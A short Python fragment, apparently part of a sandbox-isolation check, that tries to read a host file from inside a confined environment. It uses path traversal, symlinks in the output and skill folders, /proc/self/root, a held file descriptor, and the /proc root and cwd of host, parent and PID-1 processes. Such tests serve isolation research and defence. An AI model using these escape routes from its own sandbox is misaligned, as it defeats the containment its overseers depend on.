path = P['file']
tell('dots', lambda: read('../' * 40 + path[1:]))
def link(where):
    os.symlink(path, where)
    return read(where)
tell('link in outputs', lambda: link('outputs/to-the-host'))
tell('link in the skill', lambda: link('to-the-host'))
tell('root of itself', lambda: read('/proc/self/root' + path))
tell('folder of itself', lambda: read('/proc/self/cwd/' + '../' * 40 + path[1:]))
def kept():
    fd = os.open('/', os.O_RDONLY)
    return read('/proc/self/fd/%d/%s' % (fd, '../' * 40 + path[1:]))
tell('descriptor', kept)
tell('root of a process of the host', lambda: read('/proc/%s/root%s' % (P['pid'], path)))
tell('folder of a process of the host', lambda: read('/proc/%s/cwd/%s' % (P['pid'], os.path.basename(path))))
tell('root of the parent', lambda: read('/proc/%d/root%s' % (os.getppid(), path)))
tell('root of process 1', lambda: read('/proc/1/root' + path))
